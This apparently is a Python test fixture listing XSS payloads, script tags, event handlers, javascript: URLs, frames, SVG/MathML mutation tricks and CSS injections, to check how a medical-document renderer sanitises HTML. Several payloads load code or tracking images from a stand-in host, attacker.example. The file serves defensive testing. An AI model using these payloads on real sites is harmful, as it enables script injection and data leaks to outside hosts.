"""Attempts to make rendered HTML run something, by the class of the attack; all in our own words."""

CALL = "parent.broken=1"

SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<ScRiPt type=module>{CALL}</sCrIpT>",
    f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    "<script src=//attacker.example/x.js></script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}",
    f"<script\x00>{CALL}</script>",
    f"<s\x00cript>{CALL}</s\x00cript>",
    f"</p><script>{CALL}</script><p>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
    f"<xml><script>{CALL}</script></xml>",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?php echo 1 ?><script>{CALL}</script>",
    f"<!--><script>{CALL}</script>-->",
    f"<!--[if IE]><script>{CALL}</script><![endif]-->",
    f"--!><script>{CALL}</script>",
]
HANDLERS = [
    f"<img src=x onerror={CALL}>",
    f'<img src="x" OnErRoR="{CALL}">',
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x\nonerror\n=\n{CALL}>",
    f"<img src=x onerror\x00={CALL}>",
    f"<img src=x one\x00rror={CALL}>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<html onmouseover={CALL}>",
    f"<p onclick={CALL}>words</p>",
    f"<b onpointerenter={CALL}>words</b>",
    f"<a href=# onfocus={CALL} autofocus tabindex=1>words</a>",
    f"<details open ontoggle={CALL}>words</details>",
    f"<input autofocus onfocus={CALL} value=words>",
    f"<input type=image src=x onerror={CALL}>",
    f"<select autofocus onfocus={CALL}><option>words</select>",
    f"<textarea autofocus onfocus={CALL}>words</textarea>",
    f"<button onclick={CALL}>words</button>",
    f"<video src=x onerror={CALL}></video>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<marquee onstart={CALL}>words</marquee>",
    f"<div style='animation:x 1s' onanimationstart={CALL}>words</div>",
    f"<div ontransitionend={CALL} style='transition:1s'>words</div>",
    f"<div contenteditable onbeforeinput={CALL}>words</div>",
    f"<table background=x onbeforeprint={CALL}><td onwheel={CALL}>words",
    f"<td style='x' onmouseenter={CALL}>words</td>",
    f"<mark class=osteotome onclick={CALL}>words</mark>",
    f"<p title='\" onclick={CALL} x=\"'>words</p>",
    f"<p title=`x` onclick={CALL}>words</p>",
    f"<p lang='\"><img src=x onerror={CALL}>'>words</p>",
    f'<p dir="&quot;><script>{CALL}</script>">words</p>',
    f"<a href='http://a/\"onclick={CALL}//'>words</a>",
    f"<input value='\"><img src=x onerror={CALL}>'>",
    f"<textarea></textarea><img src=x onerror={CALL}>",
    f"<xmp><img src=x onerror={CALL}></xmp>",
    f"<plaintext><img src=x onerror={CALL}>",
    f"<option><img src=x onerror={CALL}></option>",
    f"<dialog open oncancel={CALL}>words</dialog>",
    f"<slot onslotchange={CALL}>words</slot>",
]
ADDRESSES = [
    f"<a href=javascript:{CALL}>words</a>",
    f"<a href=JaVaScRiPt:{CALL}>words</a>",
    f"<a href=' javascript:{CALL}'>words</a>",
    f"<a href='\x01javascript:{CALL}'>words</a>",
    f"<a href='java\tscript:{CALL}'>words</a>",
    f"<a href='java\nscript:{CALL}'>words</a>",
    f"<a href='java\x00script:{CALL}'>words</a>",
    f"<a href='&#106;avascript:{CALL}'>words</a>",
    f"<a href='&#x6A&#x61vascript:{CALL}'>words</a>",
    f"<a href='javascript&colon;{CALL}'>words</a>",
    f"<a href='java&Tab;script&NewLine;:{CALL}'>words</a>",
    f"<a href='vbscript:{CALL}'>words</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>words</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4x'>words</a>",
    "<a href='blob:http://x/1'>words</a>",
    "<a href='file:///etc/passwd'>words</a>",
    f"<a href='view-source:javascript:{CALL}'>words</a>",
    f"<a href='feed:javascript:{CALL}'>words</a>",
    f"<a xlink:href=javascript:{CALL}>words</a>",
    "<a href=http://x ping=//attacker.example/>words</a>",
    "<a href=http://x target=_top>words</a>",
    "<a href='//attacker.example/'>words</a>",
    f"<area href=javascript:{CALL}>",
    f"<map name=m><area href=javascript:{CALL}></map>",
    f"<img src=javascript:{CALL}>",
    "<img src=http://attacker.example/seen.gif>",
    "<img srcset='http://attacker.example/seen.gif 1x'>",
    f"<input type=submit formaction=javascript:{CALL}>",
    f"<button formaction=javascript:{CALL}>words</button>",
    f"<form action=javascript:{CALL}><input type=submit></form>",
    "<form id=f><input name=attributes></form><button form=f>words</button>",
    f"<blockquote cite=javascript:{CALL}>words</blockquote>",
    f"<q cite=javascript:{CALL}>words</q>",
    f"<table background=javascript:{CALL}><tr><td>words</table>",
    f"<base href=javascript:{CALL}//><a href=x>words</a>",
    "<base href=http://attacker.example/><a href=x>words</a>",
]
FRAMES = [
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe onload={CALL}></iframe>",
    f"<iframe src=data:text/html,<script>{CALL}</script>></iframe>",
    f"<frameset onload={CALL}><frame src=javascript:{CALL}></frameset>",
    f"<object data=javascript:{CALL}></object>",
    f"<object type=text/html data='data:text/html,<script>{CALL}</script>'></object>",
    f"<embed src=javascript:{CALL}>",
    "<applet code=x></applet>",
    f"<portal src=javascript:{CALL}></portal>",
    "<fencedframe></fencedframe>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<meta http-equiv=Set-Cookie content=x=1>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    f"<link rel=import href=data:text/html,<script>{CALL}</script>>",
    f"<template><script>{CALL}</script></template>",
    f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<noembed><img src=x onerror={CALL}></noembed>",
    f"<noframes><p title='</noframes><img src=x onerror={CALL}>'></noframes>",
]
DRAWINGS = [
    f"<svg onload={CALL}></svg>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:text/javascript,{CALL} /></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>words</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{CALL} /></svg>",
    f"<svg><set attributeName=onmouseover to={CALL} /></svg>",
    f"<svg><foreignObject><iframe src=javascript:{CALL}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}></svg>#x'/></svg>",
    f"<svg><image href=x onerror={CALL} /></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<svg><p><style><g title='</style><img src=x onerror={CALL}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>",
    f"<math><a href=javascript:{CALL}>words</a></math>",
    f"<math><mi xlink:href=javascript:{CALL}>words</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={CALL}>'>",
    f"<math><mtext></p><mglyph><mtext><style><img src=x onerror={CALL}></style>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<table><math><select><mi></table><img src=x onerror={CALL}>",
]
STYLES = [
    f"<p style='background:url(javascript:{CALL})'>words</p>",
    "<p style='background-image:url(//attacker.example/seen)'>words</p>",
    f"<p style='width:expression({CALL})'>words</p>",
    "<p style='behavior:url(x.htc)'>words</p>",
    "<p style='-moz-binding:url(x.xml)'>words</p>",
    "<p style='position:fixed;inset:0;z-index:9'>words</p>",
    "<p style='text-align:left;position:absolute;top:0'>words</p>",
    "<p style='font-weight:bold}body{display:none'>words</p>",
    "<p style='text-decoration:url(//attacker.example/x)'>words</p>",
    "<p style='color:\\75rl(x)'>words</p>",
    "<style>@import '//attacker.example/x.css';</style>",
    f"<style>*{{background:url(javascript:{CALL})}}</style>",
    f"<style></style><img src=x onerror={CALL}></style>",
    "<font color=red size=7 face='url(x)'>words</font>",
    "<p class=warning id=body name=cookie>words</p>",
    "<a id=document name=forms>words</a>",
    "<p data-ids=1 data-evidence=27165>words</p>",
    "<mark class=osteotome data-evidence=27165 data-status=performed>words</mark>",
    "<p is=x-element slot=y part=z>words</p>",
    "<x-element onclick=1>words</x-element>",
]
PAYLOADS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *FRAMES, *DRAWINGS, *STYLES]


def rendered(payloads: list[str]) -> list[str]:
    """Every one of ``payloads`` as rendered: behind a note, in a table, and as plain text."""
    from nlp.documents import read, render
    from tests.documents.made import annotation

    shapes = ("<p>A femoral osteotomy was done.</p>{}", "<table><tr><td>{}<td>cut</table>", "{}")
    documents = [read(shape.format(payload), "html") for payload in payloads for shape in shapes[:2]]
    documents += [read(payload, "text") for payload in payloads]
    return [
        render(document, annotation(document.text, *filter(None, [document.text[:8]])))
        for document in documents
    ]


if __name__ == "__main__":
    import json
    import sys

    given = json.load(sys.stdin) if sys.argv[1:] == ["-"] else PAYLOADS
    print(json.dumps({"raw": given, "rendered": rendered(given)}))
